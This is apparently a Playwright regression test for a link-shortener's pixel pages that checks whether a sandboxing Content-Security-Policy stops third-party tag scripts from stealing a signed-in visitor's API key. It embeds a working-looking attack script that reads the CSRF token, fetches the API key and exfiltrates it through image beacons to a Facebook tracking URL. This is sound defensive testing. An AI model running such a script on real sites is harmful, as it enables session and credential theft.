import { createServer, type Server } from 'node:http'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Browser } from 'playwright-core'
import { createSession, SESSION_COOKIE } from '../../src/accounts/sessions.js'
import { addLink, hasChromium, launchBrowser, listen } from '../helpers/fixtures.js'
import { testApp, type TestApp, type TestUser } from '../helpers/app.js'
import { closeServer, listenLocally } from '../helpers/local-server.js'

/*
 * Issue 13 item 2: a link owner's tag-manager container ran its own JavaScript on the pixel page,
 * on the origin of /dashboard: it opened a same-origin window, read the session's CSRF token,
 * fetched the API key through that window and sent it out in an image URL. Here a stand-in vendor
 * script, answered by the test for the vendor's script URL, tries exactly that against a signed-in
 * visitor, and reports every step through the vendor's beacon URL.
 */

const ATTACK = `(async function () {
  var beacon = function (m) { new Image().src = 'https://www.facebook.com/tr?leak=' + encodeURIComponent(m) }
  beacon('ran origin=' + self.origin)
  try { localStorage.setItem('k', '1'); beacon('storage ok') } catch (e) { beacon('storage blocked') }
  try {
    var w = window.open('/api/session', 'grab')
    var text = ''
    for (var i = 0; i < 60 && text.indexOf('csrfToken') < 0; i++) {
      await new Promise(function (r) { setTimeout(r, 50) })
      try { text = w.document.body.innerText } catch (e) { text = 'blocked ' + e.name }
    }
    beacon('session ' + text.slice(0, 40))
    var csrf = JSON.parse(text).csrfToken
    var res = await w.fetch('/api/account/apikey', { headers: { 'x-csrf-token': csrf } })
    var body = await res.json()
    beacon('KEY=' + body.apikey)
  } catch (e) { beacon('window attack failed ' + e.name) }
  try {
    var r2 = await fetch('/api/session', { credentials: 'include' })
    beacon('direct fetch ' + r2.status)
  } catch (e) { beacon('direct fetch failed ' + e.name) }
  beacon('done')
})()`

describe.skipIf(!hasChromium)('third-party code on pixel pages, in Chromium', () => {
  let t: TestApp
  let victim: TestUser
  let browser: Browser
  let origin: string
  let dest: Server
  let destOrigin: string

  beforeAll(async () => {
    t = await testApp()
    origin = await listen(t.app)
    dest = createServer((_req, res) => res.writeHead(200, { 'content-type': 'text/html' }).end('<title>Destination</title>'))
    destOrigin = await listenLocally(dest)
    victim = await t.makeUser({ plan: 'pro' })
    browser = await launchBrowser()
  })
  afterAll(async () => {
    await browser?.close()
    if (dest) await closeServer(dest)
    await t?.close()
  })

  it('run in an opaque origin: a signed-in visitor’s API key never leaves, while the vendor script runs and beacons', async () => {
    const px = (await victim.api.post('/api/pixel/add', { type: 'fbpixel', name: 'Container', tag: '1234567890' })).json().id
    // a splash link: its 5 s countdown gives the script time; the pixel page proper moves on after 1 s
    await addLink(victim, { url: `${destOrigin}/landing`, custom: 'pxattack', type: 'splash', pixels: [px] })

    const context = await browser.newContext()
    const token = await createSession(t.app.db, victim.user.id)
    await context.addCookies([{ name: SESSION_COOKIE, value: token, url: origin, httpOnly: true, sameSite: 'Lax' }])
    const page = await context.newPage()
    const beacons: string[] = []
    await context.route('https://connect.facebook.net/**', (route) => route.fulfill({ status: 200, contentType: 'application/javascript', body: ATTACK }))
    await context.route('https://www.facebook.com/**', (route) => {
      beacons.push(new URL(route.request().url()).searchParams.get('leak') ?? '')
      return route.fulfill({ status: 204 })
    })

    const res = await page.goto(`${origin}/pxattack`)
    expect(res?.headers()['content-security-policy']).toMatch(/sandbox allow-scripts allow-forms allow-popups allow-top-navigation(;|$)/)
    expect(res?.headers()['content-security-policy']).not.toMatch(/allow-same-origin/)
    await expect.poll(() => beacons.includes('done'), { timeout: 15_000 }).toBe(true)

    // the script ran, in an opaque origin, and got nothing of the signed-in visitor
    expect(beacons).toContain('ran origin=null')
    expect(beacons).toContain('storage blocked')
    expect(beacons.some((b) => b.startsWith('window attack failed'))).toBe(true)
    expect(beacons.filter((b) => b.startsWith('KEY='))).toEqual([])
    expect(beacons.join('\n')).not.toContain(victim.key)
    expect(beacons.join('\n')).not.toContain('csrfToken')
    await context.close()
  })

  it('the same page without pixels is not sandboxed (nothing third-party runs there)', async () => {
    await addLink(victim, { url: `${destOrigin}/plain`, custom: 'pxnone', type: 'splash' })
    const res = await t.app.inject({ method: 'GET', url: '/pxnone', headers: { host: 'kurz.test' } })
    expect(res.headers['content-security-policy']).not.toMatch(/sandbox/)
  })
})
